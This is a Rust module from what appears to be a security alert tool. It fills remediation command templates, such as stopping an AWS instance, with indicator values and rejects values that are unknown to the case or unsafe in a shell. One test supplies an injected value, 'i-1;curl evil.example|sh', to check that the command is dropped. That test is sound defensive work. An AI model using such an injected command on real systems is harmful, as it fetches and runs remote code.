//! The action catalogue: what a report may advise.
//!
//! Text, command, side effect and undo stand in templates that we ship or an operator writes. An analyst picks an id
//! and indicators; a value reaches a command only when it is known to the case and safe in a shell as it stands.

use std::sync::Arc;

use nightshift_alert::{Alert, Indicator, IndicatorKind, Provider, Role};
use serde::{Deserialize, Serialize};

/// An action as the catalogue holds it. `{name}` in text and command stands for a value: `account`, `region`,
/// `resource`, an indicator type such as `ip` or `instance`, or a principal of AWS as its commands want it: `user_name`,
/// `role_name`, and as its log names it: `caller_name`. A brace as such is doubled.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ActionTemplate {
    /// Its id.
    pub id: String,
    /// The cloud it applies to; any where none.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub provider: Option<Provider>,
    /// What to do, in a sentence.
    pub text: String,
    /// The command that does it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// What must be true first.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub precondition: Option<String>,
    /// What else it does.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub side_effect: Option<String>,
    /// How to take it back.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub undo: Option<String>,
    /// Whether it is for alerts that a record has cleared, and is left out of every other report.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub when_cleared: bool,
}

/// An analyst's choice from the catalogue.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ActionChoice {
    /// The action's id.
    pub id: String,
    /// The values it is about; where none of a type is given, the alert's own is taken.
    #[serde(default)]
    pub indicators: Vec<Indicator>,
}

/// An action, filled in. Suggested, never executed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Action {
    /// The action's id.
    pub id: String,
    /// What to do.
    pub text: String,
    /// The command that does it, ready to paste.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    /// What must be true first.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub precondition: Option<String>,
    /// What else it does.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub side_effect: Option<String>,
    /// How to take it back.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub undo: Option<String>,
}

/// Fills an action in; none where the catalogue has no such action for this alert's cloud, or where its text needs a
/// value that is not known. `known` are the indicators of the case. A command or an undo that lacks a value is left out.
#[must_use]
pub fn fill(
    templates: &[Arc<ActionTemplate>],
    choice: &ActionChoice,
    alert: &Alert,
    known: &[Indicator],
) -> Option<Action> {
    let template = templates.iter().find(|template| {
        template.id == choice.id
            && template
                .provider
                .is_none_or(|provider| provider == alert.provider)
    })?;
    let values = Values {
        choice,
        alert,
        known,
    };
    Some(Action {
        id: template.id.clone(),
        text: values.render(&template.text, false)?,
        command: values.option(template.command.as_deref(), true),
        precondition: values.option(template.precondition.as_deref(), false),
        side_effect: values.option(template.side_effect.as_deref(), false),
        undo: values.option(template.undo.as_deref(), true),
    })
}

struct Values<'a> {
    choice: &'a ActionChoice,
    alert: &'a Alert,
    known: &'a [Indicator],
}

impl Values<'_> {
    fn option(&self, template: Option<&str>, shell: bool) -> Option<String> {
        template.and_then(|template| self.render(template, shell))
    }

    fn render(&self, template: &str, shell: bool) -> Option<String> {
        let mut out = String::with_capacity(template.len());
        let mut rest = template;
        while let Some(at) = rest.find(['{', '}']) {
            let (before, from) = rest.split_at_checked(at)?;
            out.push_str(before);
            if let Some(tail) = from.strip_prefix("{{") {
                out.push('{');
                rest = tail;
                continue;
            }
            if let Some(tail) = from.strip_prefix("}}") {
                out.push('}');
                rest = tail;
                continue;
            }
            let (name, tail) = from.strip_prefix('{')?.split_once('}')?;
            let value = self.value(name)?;
            if shell && !is_shell_safe(&value) {
                return None;
            }
            out.push_str(&value);
            rest = tail;
        }
        out.push_str(rest);
        Some(out)
    }

    fn value(&self, name: &str) -> Option<String> {
        match name {
            "account" => self.alert.account.clone(),
            "region" => self.alert.region.clone(),
            "resource" => self
                .alert
                .resources
                .first()
                .map(|resource| resource.name.as_ref().unwrap_or(&resource.id).clone()),
            "user_name" => name_in(self.indicator(IndicatorKind::Principal)?, &["user"]),
            "caller_name" => caller_in(self.indicator(IndicatorKind::Principal)?),
            "role_name" => name_in(
                self.indicator(IndicatorKind::Principal)?,
                &["role", "assumed-role"],
            ),
            _ => {
                let kind = IndicatorKind::ALL
                    .into_iter()
                    .find(|kind| kind.as_str() == name)?;
                self.indicator(kind)
            }
        }
    }

    /// The chosen value if the case knows it, else the alert's: actor, far end, target, in that order of interest. An
    /// address or name that only stands beside them may be our own, and is none to block.
    fn indicator(&self, kind: IndicatorKind) -> Option<String> {
        let is_known = |value: &str| {
            self.alert.knows(kind, value)
                || self
                    .known
                    .iter()
                    .any(|indicator| indicator.kind == kind && indicator.value == value)
        };
        let chosen = self
            .choice
            .indicators
            .iter()
            .find(|indicator| indicator.kind == kind && is_known(&indicator.value));
        let is_network = matches!(
            kind,
            IndicatorKind::Ip | IndicatorKind::Domain | IndicatorKind::Url
        );
        let own = || {
            [Role::Actor, Role::Remote, Role::Target, Role::Related]
                .into_iter()
                .filter(|role| !(is_network && *role == Role::Related))
                .find_map(|role| {
                    self.alert
                        .with_role(role)
                        .find(|indicator| indicator.kind == kind)
                })
        };
        chosen.or_else(own).map(|indicator| indicator.value.clone())
    }
}

/// A principal's name: the value itself, or the name in an ARN of one of these kinds. None for an ARN of another kind.
fn name_in(principal: String, kinds: &[&str]) -> Option<String> {
    if !principal.starts_with("arn:") {
        return Some(principal);
    }
    let (kind, path) = resource(&principal)?;
    // A session is called `assumed-role/NAME/SESSION`; anything else may have a path before its name.
    let name = match kind {
        "assumed-role" => path.split('/').next()?,
        _ => path.rsplit('/').next()?,
    };
    kinds.contains(&kind).then(|| name.to_owned())
}

/// What CloudTrail calls a principal: a user by its name, a role by that of its session.
fn caller_in(principal: String) -> Option<String> {
    match resource(&principal) {
        Some(("assumed-role", path)) => Some(path.split_once('/')?.1.to_owned()),
        _ => name_in(principal, &["user"]),
    }
}

/// Kind and path of what an ARN names. A path may hold colons.
pub(crate) fn resource(arn: &str) -> Option<(&str, &str)> {
    arn.splitn(6, ':').nth(5)?.split_once('/')
}

/// Whether a value may stand in a shell command without quotes: no blank, no quote, nothing that a shell reads, and no
/// leading dash that a program would read as a flag.
fn is_shell_safe(value: &str) -> bool {
    !value.is_empty()
        && !value.starts_with('-')
        && value.len() <= 256
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._:/@+=-".contains(c))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixture;

    fn template(command: &str) -> Vec<Arc<ActionTemplate>> {
        vec![Arc::new(ActionTemplate {
            id: "stop".into(),
            provider: Some(Provider::Aws),
            text: "Stop {instance}".into(),
            command: Some(command.into()),
            precondition: None,
            side_effect: None,
            undo: None,
            when_cleared: false,
        })]
    }

    fn choice(value: Option<&str>) -> ActionChoice {
        ActionChoice {
            id: "stop".into(),
            indicators: value
                .map(|value| Indicator::new(IndicatorKind::Instance, value, Role::Target))
                .into_iter()
                .collect(),
        }
    }

    #[test]
    fn fills_in_from_the_alert() {
        let alert = fixture::alert();
        let action = fill(
            &template("aws ec2 stop-instances --instance-ids {instance} --region {region}"),
            &choice(None),
            &alert,
            &[],
        );
        assert_eq!(
            action.and_then(|action| action.command).as_deref(),
            Some("aws ec2 stop-instances --instance-ids i-1 --region eu-west-1")
        );
    }

    #[test]
    fn a_brace_as_such_is_doubled() {
        let braces = "put {{\"of\":{{\"id\":\"{instance}\"}}}}";
        let action = fill(&template(braces), &choice(None), &fixture::alert(), &[]);
        assert_eq!(
            action.and_then(|action| action.command).as_deref(),
            Some("put {\"of\":{\"id\":\"i-1\"}}")
        );
    }

    #[test]
    fn a05_a_value_the_case_does_not_know_never_reaches_a_command() {
        let alert = fixture::alert();
        let action = fill(
            &template("stop {instance}"),
            &choice(Some("i-999")),
            &alert,
            &[],
        );
        assert_eq!(
            action.and_then(|action| action.command).as_deref(),
            Some("stop i-1")
        );
    }

    #[test]
    fn a05_a_value_with_shell_characters_leaves_the_command_out() {
        let mut alert = fixture::alert();
        alert.indicators = vec![Indicator::new(
            IndicatorKind::Instance,
            "i-1;curl evil.example|sh",
            Role::Target,
        )];
        let action = fill(&template("stop {instance}"), &choice(None), &alert, &[]);
        assert_eq!(action.map(|action| action.command), Some(None));
    }

    #[test]
    fn an_arn_is_named_as_commands_want_it_and_not_where_it_is_of_another_kind() {
        let command = |template: &str, principal: &str| {
            let mut alert = fixture::alert();
            alert.indicators = vec![
                Indicator::new(IndicatorKind::Principal, principal, Role::Actor),
                Indicator::new(IndicatorKind::Instance, "i-1", Role::Target),
            ];
            let action = fill(&self::template(template), &choice(None), &alert, &[]);
            action
                .and_then(|action| action.command)
                .unwrap_or_else(|| "none".to_owned())
        };
        let shown = [
            "alice",
            "arn:aws:iam::123456789012:user/team/alice",
            "arn:aws:iam::123456789012:role/service-role/deployer",
            "arn:aws:sts::123456789012:assumed-role/deployer/i-0abc",
            "arn:aws:iam::123456789012:root",
            "arn:aws:iam::123456789012:user/x:role/deployer",
            "arn:aws:iam::123456789012:user/x:assumed-role/a/b",
        ]
        .map(|principal| {
            let user = command("--user-name {user_name}", principal);
            let role = command("--role-name {role_name}", principal);
            let caller = command("{caller_name}", principal);
            format!("{principal}: {user}; {role}; {caller}")
        });
        insta::assert_snapshot!(shown.join("\n"), @r"
        alice: --user-name alice; --role-name alice; alice
        arn:aws:iam::123456789012:user/team/alice: --user-name alice; none; alice
        arn:aws:iam::123456789012:role/service-role/deployer: none; --role-name deployer; none
        arn:aws:sts::123456789012:assumed-role/deployer/i-0abc: none; --role-name deployer; i-0abc
        arn:aws:iam::123456789012:root: none; none; none
        arn:aws:iam::123456789012:user/x:role/deployer: --user-name deployer; none; deployer
        arn:aws:iam::123456789012:user/x:assumed-role/a/b: --user-name b; none; b
        ");
    }

    #[test]
    fn an_action_of_another_cloud_is_not_offered() {
        let mut alert = fixture::alert();
        alert.provider = Provider::Gcp;
        assert_eq!(fill(&template("x"), &choice(None), &alert, &[]), None);
    }
}
